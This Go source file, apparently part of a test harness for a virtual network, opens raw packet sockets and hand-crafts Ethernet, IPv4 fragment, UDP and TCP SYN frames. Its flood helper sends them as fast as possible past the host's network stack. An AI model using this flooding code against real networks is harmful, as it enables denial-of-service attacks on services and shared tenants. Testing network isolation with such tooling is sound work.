// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"

	"golang.org/x/sys/unix"
)

// wire sends frames as they are, past the instance's own network stack: root in an
// instance may.
type wire struct {
	fd          int
	mac, router [6]byte
	addr        netip.Addr
}

func openWire(link string) (*wire, error) {
	l, err := net.InterfaceByName(link)
	if err != nil {
		return nil, err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return nil, fmt.Errorf("packet socket: %w", err)
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Ifindex: l.Index}); err != nil {
		unix.Close(fd)
		return nil, fmt.Errorf("bind packet socket: %w", err)
	}
	w := &wire{fd: fd, router: [6]byte{0x02, 0, 0, 0, 0, 0x01}} // everybody's next hop
	copy(w.mac[:], l.HardwareAddr)
	addrs, err := l.Addrs()
	if err != nil {
		unix.Close(fd)
		return nil, err
	}
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			w.addr = p.Addr()
			return w, nil
		}
	}
	unix.Close(fd)
	return nil, errors.New(link + " has no IPv4 address")
}

// flood sends what next makes, as fast as one thread can.
func flood(next func(a *attacker, w *wire, n uint32) []byte) func(*attacker) error {
	return func(a *attacker) error {
		w, err := openWire("eth0")
		if err != nil {
			return err
		}
		defer unix.Close(w.fd)
		a.begun()
		for n := uint32(0); a.more(); n++ {
			_, err := unix.Write(w.fd, next(a, w, n))
			switch {
			case err == nil:
				a.sent.Add(1)
			case !errors.Is(err, unix.ENOBUFS) && !errors.Is(err, unix.EAGAIN):
				return err
			}
		}
		return nil
	}
}

const (
	typeIPv4, typeARP, typeIPv6 = 0x0800, 0x0806, 0x86dd
	moreFragments, dontFragment = 0x2000, 0x4000
)

// frame begins one from the attacker to the router.
func (w *wire) frame(kind uint16) []byte { return ether(w.router, w.mac, kind) }

func ether(to, from [6]byte, kind uint16) []byte {
	b := make([]byte, 0, 128)
	b = append(append(b, to[:]...), from[:]...)
	return binary.BigEndian.AppendUint16(b, kind)
}

// ipv4 appends a packet; fragment is the field of flags and offset.
func ipv4(b []byte, from, to netip.Addr, protocol uint8, id, fragment uint16, payload []byte) []byte {
	at := len(b)
	b = append(b, 0x45, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(20+len(payload)))
	b = binary.BigEndian.AppendUint16(b, id)
	b = binary.BigEndian.AppendUint16(b, fragment)
	b = append(b, 64, protocol, 0, 0)
	b = append(append(b, from.AsSlice()...), to.AsSlice()...)
	binary.BigEndian.PutUint16(b[at+10:], checksum(b[at:], 0))
	return append(b, payload...)
}

func udp(from, to uint16, payload []byte) []byte {
	b := binary.BigEndian.AppendUint16(nil, from)
	b = binary.BigEndian.AppendUint16(b, to)
	b = binary.BigEndian.AppendUint16(b, uint16(8+len(payload)))
	return append(append(b, 0, 0), payload...) // no checksum
}

// syn is a TCP header that opens a connection.
func syn(src, dst netip.Addr, from, to uint16, seq uint32) []byte {
	b := binary.BigEndian.AppendUint16(nil, from)
	b = binary.BigEndian.AppendUint16(b, to)
	b = binary.BigEndian.AppendUint32(b, seq)
	b = append(b, 0, 0, 0, 0, 5<<4, 2, 0xff, 0xff, 0, 0, 0, 0)
	pseudo := append(append(src.AsSlice(), dst.AsSlice()...), 0, unix.IPPROTO_TCP, 0, byte(len(b)))
	binary.BigEndian.PutUint16(b[16:], checksum(b, sum(pseudo)))
	return b
}

func sum(b []byte) (s uint32) {
	for ; len(b) > 1; b = b[2:] {
		s += uint32(b[0])<<8 | uint32(b[1])
	}
	return s
}

func checksum(b []byte, s uint32) uint16 {
	s += sum(b)
	for s > 0xffff {
		s = s>>16 + s&0xffff
	}
	return ^uint16(s)
}
